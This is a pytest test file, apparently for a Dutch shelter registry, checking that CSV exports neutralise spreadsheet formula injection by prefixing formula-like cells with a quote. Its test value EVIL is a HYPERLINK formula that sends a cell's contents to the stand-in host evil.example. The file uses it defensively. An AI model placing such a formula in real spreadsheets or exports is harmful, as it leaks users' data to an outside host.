"""CSV exports carry no formulas: a cell a spreadsheet would run is exported as plain text (OWASP)."""

import csv
import io

import pytest

from extensions import db
from national.tables import Table, csv_cell

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.mark.parametrize("text", [EVIL, "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_a_formula_start_is_made_text(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Opvang =1", "COSM Rotterdam", 5, -3, 2.5, ""])
def test_other_cells_stay_as_they_are(value):
    assert csv_cell(value) == value


def test_every_cell_and_header_of_a_table(app):
    table = Table(key="t", title="T", columns=[("=a", "A"), ("b", "B")], rows=[{"=a": "@x", "b": None}])
    assert list(csv.reader(io.StringIO(table.as_csv()))) == [["'=a", "b"], ["'@x", ""]]


def _shelter_cells(text, column="shelter"):
    return [row[column] for row in csv.DictReader(io.StringIO(text))]


def test_a_shelter_named_as_a_formula_is_exported_as_text(api, client, login, users, registry):
    registry["shelters"]["dh-nood"].name = EVIL  # names may hold "=": only < and > are refused
    db.session.commit()
    resp = api("comensha", "GET", "/api/v1/freshness?format=csv&table=freshness")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert "'" + EVIL in _shelter_cells(resp.get_data(as_text=True))
    assert EVIL not in _shelter_cells(resp.get_data(as_text=True))
    login(users["comensha"])
    page = client.get("/landelijk/export/freshness.csv?table=freshness")
    assert page.status_code == 200 and "'" + EVIL in _shelter_cells(page.get_data(as_text=True), "Opvang")
